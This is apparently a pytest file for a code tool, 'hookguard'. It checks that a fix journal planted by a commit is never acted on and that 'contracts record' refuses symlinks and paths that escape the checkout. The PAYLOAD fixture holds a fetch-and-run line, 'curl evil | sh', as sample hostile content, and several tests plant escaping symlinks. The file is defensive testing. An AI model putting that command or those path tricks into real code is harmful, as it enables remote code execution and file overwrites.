"""Issue 24, item 5: ``fix`` and ``contracts record`` write only where they may.

* The fix journal decides what the next ``fix`` writes, so it lives in git's directory (``git
  rev-parse --git-path``), or, without git, in a private per-user directory: never in the work
  tree. A journal committed with a hidden staged file, in a linked worktree, a submodule or a
  checkout without ``.git``, used to be "completed", replacing a reviewed file with the hidden
  content; now it is ignored with one note and never touched.
* ``contracts record -o PATH`` refuses a symbolic link and a path that resolves outside the
  checkout (exit 2, one line naming the path), before and after running the tests, and writes
  through a temporary file renamed into place; its help says it runs the tests it is given.

Real git repositories, real command-line runs in subprocesses; no hookguard code is mocked."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from hookguard.engine import Options, audit
from hookguard.fix.apply import (
    WORK_TREE_JOURNAL,
    FileResult,
    _digest,
    _stage,
    _write_journal,
    fix_file,
    journal_path,
)
from hookguard.fix.plan import Fix, plan_fixes
from tests.conftest import GIT_ENV, GitRepo, write_tree

REVIEWED = "def answer():\n    return 42\n"
PAYLOAD = "import os\n\n\ndef answer():\n    os.system('curl evil | sh')\n    return 42\n"
HIDDEN = "pkg/.reviewed.py.hgfix-0123456789abcdef"


def planted() -> dict[str, str]:
    """A reviewed file, a hidden 'staged' file and a journal that would rename one onto the
    other, as a commit (or an archive) can carry them."""
    journal = {"version": 1, "state": "renaming", "entries": [{
        "path": "pkg/reviewed.py", "temp": Path(HIDDEN).name,
        "before": hashlib.sha256(REVIEWED.encode()).hexdigest(),
        "after": hashlib.sha256(PAYLOAD.encode()).hexdigest()}]}
    return {"pkg/__init__.py": "", "pkg/reviewed.py": REVIEWED, HIDDEN: PAYLOAD,
            WORK_TREE_JOURNAL: json.dumps(journal)}


def run_hookguard(cwd: Path, *args: str, env: dict[str, str] | None = None
                  ) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "hookguard", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=300,
                          env={**os.environ, **GIT_ENV, **(env or {})})


@pytest.fixture
def state_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A per-user state directory of the test's own (``$XDG_STATE_HOME``)."""
    home = tmp_path / "state-home"
    monkeypatch.setenv("XDG_STATE_HOME", str(home))
    return home


def assert_ignored(root: Path, out: subprocess.CompletedProcess[str]) -> None:
    assert out.returncode == 0, out.stdout + out.stderr
    assert (root / "pkg/reviewed.py").read_text() == REVIEWED
    assert "completed an interrupted fix" not in out.stderr
    notes = [line for line in out.stderr.splitlines() if "fix journal" in line]
    assert notes == [f"hookguard: note: ignored the fix journal {root / WORK_TREE_JOURNAL}: it "
                     "is in the work tree, where a commit can put one, and hookguard never "
                     "acts on it (remove it)"], out.stderr
    # never acted on, never removed: the checkout's files stay as they were
    assert (root / HIDDEN).read_text() == PAYLOAD
    assert (root / WORK_TREE_JOURNAL).is_file()


# -- the fix journal: a planted one is never acted on ---------------------------------------


def test_planted_journal_in_a_linked_worktree_is_ignored(tmp_path: Path) -> None:
    main = GitRepo(tmp_path / "main")
    main.commit("a reviewed file (and, hidden, a journal and its payload)", planted())
    main.git("worktree", "add", "-q", str(tmp_path / "wt"))
    worktree = tmp_path / "wt"
    assert (worktree / ".git").is_file()
    assert_ignored(worktree, run_hookguard(worktree, "fix", "--no-cache"))
    assert journal_path(worktree) == (main.root / ".git/worktrees/wt" / "hookguard-fix-journal"
                                      ".json")


def test_planted_journal_in_a_submodule_is_ignored(tmp_path: Path) -> None:
    inner = GitRepo(tmp_path / "inner")
    inner.commit("a reviewed file (and, hidden, a journal and its payload)", planted())
    outer = GitRepo(tmp_path / "outer")
    outer.commit("first", {"README": "outer\n"})
    outer.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner.root),
              "sub")
    outer.commit("add the submodule")
    sub = outer.root / "sub"
    assert (sub / ".git").is_file()
    assert_ignored(sub, run_hookguard(sub, "fix", "--no-cache"))
    assert journal_path(sub) == outer.root / ".git/modules/sub/hookguard-fix-journal.json"


def test_planted_journal_in_a_checkout_without_git_is_ignored(
    tmp_path: Path, state_home: Path
) -> None:
    root = write_tree(tmp_path / "unpacked", planted())
    assert_ignored(root, run_hookguard(root, "fix", "--no-cache"))
    journal = journal_path(root, create=True)
    assert journal is not None and journal.parent == state_home / "hookguard" / "fix-journals"


def test_a_git_directory_inside_the_work_tree_holds_no_trusted_journal(
    tmp_path: Path, state_home: Path
) -> None:
    """An archive can carry a ``.git`` file naming a git directory among its own files: the
    journal git names there is in the work tree, so it is ignored too."""
    repo = GitRepo(tmp_path / "repo")
    repo.commit("a reviewed file", {"pkg/__init__.py": "", "pkg/reviewed.py": REVIEWED})
    (repo.root / ".git").rename(repo.root / "inner-git")
    (repo.root / ".git").write_text("gitdir: inner-git\n")
    entries = json.loads(planted()[WORK_TREE_JOURNAL])
    (repo.root / "inner-git" / "hookguard-fix-journal.json").write_text(json.dumps(entries))
    (repo.root / HIDDEN).write_text(PAYLOAD)
    out = run_hookguard(repo.root, "fix", "--no-cache")
    assert out.returncode == 0, out.stderr
    assert (repo.root / "pkg/reviewed.py").read_text() == REVIEWED
    assert "completed an interrupted fix" not in out.stderr
    assert (f"hookguard: note: ignored the fix journal {repo.root / 'inner-git'}"
            "/hookguard-fix-journal.json: it is in the work tree") in out.stderr
    assert (repo.root / HIDDEN).read_text() == PAYLOAD
    journal = journal_path(repo.root, create=True)  # a real run keeps it outside the checkout
    assert journal is not None and journal.parent == state_home / "hookguard" / "fix-journals"


# -- the fix journal: a real interrupted run is still completed -----------------------------

BASE = """
class Base:
    def run(self):
        self.setup()

    def setup(self):
        self.started = True
"""
CHILD = """
from pkg.base import Base


class Child(Base):
    def setup(self):
        self.ready = True
"""
GRAND = """
from pkg.child import Child


class Grand(Child):
    def setup(self):
        super().setup()
"""
FAMILY = {"pkg/__init__.py": "", "pkg/base.py": BASE, "pkg/child.py": CHILD,
          "pkg/sub/__init__.py": "", "pkg/sub/grand.py": GRAND}


def _results(root: Path) -> list[FileResult]:
    result = audit([root], Options(use_cache=False))
    fixes, _ = plan_fixes(result.findings, result.project)
    by_file: dict[str, list[Fix]] = {}
    for fix in fixes:
        by_file.setdefault(fix.path, []).append(fix)
    out = []
    for rel, items in sorted(by_file.items()):
        _, file_result = fix_file(root, rel, items)
        assert file_result is not None and file_result.changed
        out.append(file_result)
    assert [r.path for r in out] == ["pkg/child.py", "pkg/sub/grand.py"]
    return out


def _interrupt_after_first_rename(root: Path) -> Path:
    """The state a ``fix`` killed after its first rename leaves, journal where it keeps it."""
    journal = journal_path(root, create=True)
    assert journal is not None
    entries = []
    for result in _results(root):
        temp = _stage(root / result.path, result.after, 0o644)
        entries.append({"path": result.path, "temp": temp.name,
                        "before": _digest(result.before), "after": _digest(result.after)})
    _write_journal(journal, {"version": 1, "state": "renaming", "entries": entries})
    first = root / "pkg/child.py"
    os.replace(first.parent / entries[0]["temp"], first)
    return journal


def _assert_completed(root: Path, journal: Path) -> None:
    out = run_hookguard(root, "fix", "--no-cache")
    assert "completed an interrupted fix: 1 file written as that run planned" in out.stderr
    assert "Traceback" not in out.stderr and "fix journal" not in out.stderr
    assert b"def prepare" in (root / "pkg/sub/grand.py").read_bytes()
    assert not journal.exists()
    assert not [p for p in root.rglob("*hgfix*")]


def test_an_interrupted_fix_in_a_worktree_is_completed_from_gits_directory(
    tmp_path: Path
) -> None:
    main = GitRepo(tmp_path / "main")
    main.commit("base", FAMILY)
    main.commit("Rename setup to prepare", {"pkg/base.py": BASE.replace("setup", "prepare")})
    main.git("worktree", "add", "-q", str(tmp_path / "wt"))
    worktree = tmp_path / "wt"
    journal = _interrupt_after_first_rename(worktree)
    assert journal.parent == main.root / ".git" / "worktrees" / "wt"
    assert not (worktree / WORK_TREE_JOURNAL).exists()
    _assert_completed(worktree, journal)


def test_an_interrupted_fix_without_git_is_completed_from_the_per_user_directory(
    tmp_path: Path, state_home: Path
) -> None:
    root = write_tree(tmp_path / "unpacked", {
        **FAMILY, "pkg/base.py": BASE.replace("setup", "prepare"),
        "contracts/hooks.toml": '[[hook]]\nclass = "pkg.base.Base"\nmethod = "prepare"\n'
                                'renamed_from = ["setup"]\n'})
    journal = _interrupt_after_first_rename(root)
    directory = state_home / "hookguard" / "fix-journals"
    assert journal.parent == directory
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    _assert_completed(root, journal)
    assert list(directory.iterdir()) == []


def test_without_git_or_a_home_fix_writes_no_journal_at_all(tmp_path: Path) -> None:
    """No repository and no per-user directory: the fix is made, and nothing but the fixed
    files is written (no journal in the checkout, no staged file left)."""
    root = write_tree(tmp_path / "unpacked", {
        "base.py": "class Base:\n    def new(self):\n        pass\n",
        "c.py": "from base import Base\n\n\nclass C(Base):\n    def old(self):\n        pass\n",
        "hooks.toml": '[[hook]]\nclass = "base.Base"\nmethod = "new"\nrenamed_from = ["old"]\n',
    })
    env = {k: v for k, v in os.environ.items() if k != "XDG_STATE_HOME"}
    out = subprocess.run([sys.executable, "-m", "hookguard", "fix", "--no-cache", "--contracts",
                          "hooks.toml"], cwd=root, capture_output=True, text=True, timeout=300,
                         env={**env, "HOME": str(tmp_path / "no-such-home")})
    assert out.returncode == 0, out.stderr
    assert "def new(self)" in (root / "c.py").read_text()
    assert sorted(p.name for p in root.iterdir() if p.name != "__pycache__") == [
        "base.py", "c.py", "hooks.toml"]
    assert not (tmp_path / "no-such-home").exists()


# -- contracts record -o ---------------------------------------------------------------------

PROBE = '''
import os


class Base:
    def hook(self, n):
        self.items = [0] * n


def run():
    with open("ran.marker", "w") as handle:
        handle.write("the tests ran\\n")
    for n in (1, 2, 3):
        Base().hook(n)


def plant():
    """A test that, while it runs, turns the output path into a link out of the checkout."""
    os.symlink(os.environ["PROBE_OUTSIDE"], os.path.join("contracts", "c.toml"))
    run()
'''


@pytest.fixture
def checkout(tmp_path: Path) -> GitRepo:
    repo = GitRepo(tmp_path / "checkout")
    repo.write({"probe.py": PROBE, "contracts/README": "contracts\n"})
    return repo


def record(cwd: Path, output: str, command: str = "probe:run"
           ) -> subprocess.CompletedProcess[str]:
    return run_hookguard(cwd, "contracts", "record", "probe.Base.hook", command, "-o", output,
                         env={"PROBE_OUTSIDE": str(cwd.parent / "outside.toml")})


def error_lines(out: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in out.stderr.splitlines() if line.startswith("hookguard: error")]


def test_record_refuses_a_committed_symlink_out_of_the_checkout(
    checkout: GitRepo, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text("# the user's own file\n")
    os.symlink("../../outside.toml", checkout.root / "contracts" / "recorded.toml")
    checkout.commit("a contract path that is a link out of the checkout")
    out = record(checkout.root, "contracts/recorded.toml")
    assert out.returncode == 2, out.stderr
    assert out.stderr.splitlines() == [
        "hookguard: error: contracts record: cannot write contracts/recorded.toml: it is a "
        "symbolic link; nothing was written"]
    assert outside.read_text() == "# the user's own file\n"
    assert not (checkout.root / "ran.marker").exists()  # refused before running anything


def test_record_refuses_a_symlink_even_into_the_checkout(checkout: GitRepo) -> None:
    os.symlink("README", checkout.root / "contracts" / "recorded.toml")
    out = record(checkout.root, "contracts/recorded.toml")
    assert out.returncode == 2
    assert error_lines(out) == [
        "hookguard: error: contracts record: cannot write contracts/recorded.toml: it is a "
        "symbolic link; nothing was written"]
    assert (checkout.root / "contracts/README").read_text() == "contracts\n"


@pytest.mark.parametrize("output", ["../outside.toml", "linked/c.toml"])
def test_record_refuses_a_path_that_resolves_outside_the_checkout(
    checkout: GitRepo, tmp_path: Path, output: str
) -> None:
    (tmp_path / "elsewhere").mkdir()
    os.symlink("../elsewhere", checkout.root / "linked")  # a committed directory link
    checkout.commit("a folder that is a link out of the checkout")
    out = record(checkout.root, output)
    assert out.returncode == 2
    assert out.stderr.splitlines() == [
        f"hookguard: error: contracts record: cannot write {output}: it is outside the checkout "
        f"{os.path.realpath(checkout.root)} (write to standard output, without -o, and "
        "redirect it); nothing was written"]
    assert not (tmp_path / "outside.toml").exists()
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_record_refuses_a_link_into_gits_directory(checkout: GitRepo) -> None:
    os.symlink(".git", checkout.root / "meta")  # a committed link into the git directory
    checkout.commit("a folder link into .git")
    out = record(checkout.root, "meta/config")
    assert out.returncode == 2
    assert out.stderr.splitlines() == [
        "hookguard: error: contracts record: cannot write meta/config: it is in git's "
        "directory; nothing was written"]
    assert "[core]" in (checkout.root / ".git" / "config").read_text()


def test_record_refuses_from_a_subfolder_too(checkout: GitRepo, tmp_path: Path) -> None:
    """The checkout is the git work tree around the current directory, not the directory."""
    (checkout.root / "contracts" / "deep").mkdir()
    out = record(checkout.root / "contracts" / "deep", "../../../outside.toml")
    assert out.returncode == 2 and "it is outside the checkout" in out.stderr
    assert not (tmp_path / "outside.toml").exists()


def test_record_refuses_a_link_planted_while_the_tests_ran(
    checkout: GitRepo, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.toml"
    outside.write_text("# the user's own file\n")
    out = record(checkout.root, "contracts/c.toml", "probe:plant")
    assert out.returncode == 2, out.stderr
    assert error_lines(out) == [
        "hookguard: error: contracts record: cannot write contracts/c.toml: it is a symbolic "
        "link; nothing was written"]
    assert outside.read_text() == "# the user's own file\n"
    assert sorted(p.name for p in (checkout.root / "contracts").iterdir()) == ["README", "c.toml"]


def test_record_writes_through_a_temporary_file_renamed_into_place(checkout: GitRepo) -> None:
    target = checkout.root / "contracts" / "c.toml"
    target.write_text("# an older recording\n")
    target.chmod(0o640)
    inode = target.stat().st_ino
    out = record(checkout.root, "contracts/c.toml")
    assert out.returncode == 0, out.stderr
    assert "hookguard: recorded 3 calls of probe.Base.hook into contracts/c.toml" in out.stderr
    text = target.read_text()
    assert text.startswith("# Recorded by `hookguard contracts record` from 3 calls") and (
        'class = "probe.Base"' in text)
    assert target.stat().st_ino != inode  # renamed into place, not rewritten in place
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert sorted(p.name for p in (checkout.root / "contracts").iterdir()) == ["README", "c.toml"]


def test_record_says_it_runs_the_tests_it_is_given(tmp_path: Path) -> None:
    out = run_hookguard(tmp_path, "contracts", "record", "--help")
    assert out.returncode == 0
    text = " ".join(out.stdout.split())
    assert "This EXECUTES the checkout's code and tests" in text
    assert "RUNS the tests it is given" in " ".join(
        run_hookguard(tmp_path, "contracts", "--help").stdout.split())
    assert "a symbolic link or a path outside the checkout is refused" in text
    source = (Path(__file__).parents[1] / "hookguard/runtime/record.py").read_text()
    assert "**Recording runs code.**" in (ast.get_docstring(ast.parse(source)) or "")


def test_a_checkout_without_git_is_the_current_directory(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "plain", {"probe.py": PROBE, "contracts/README": ""})
    out = record(root, "../outside.toml")
    assert out.returncode == 2 and "it is outside the checkout" in out.stderr
    out = record(root, "contracts/c.toml")
    assert out.returncode == 0, out.stderr
    assert 'class = "probe.Base"' in (root / "contracts" / "c.toml").read_text()
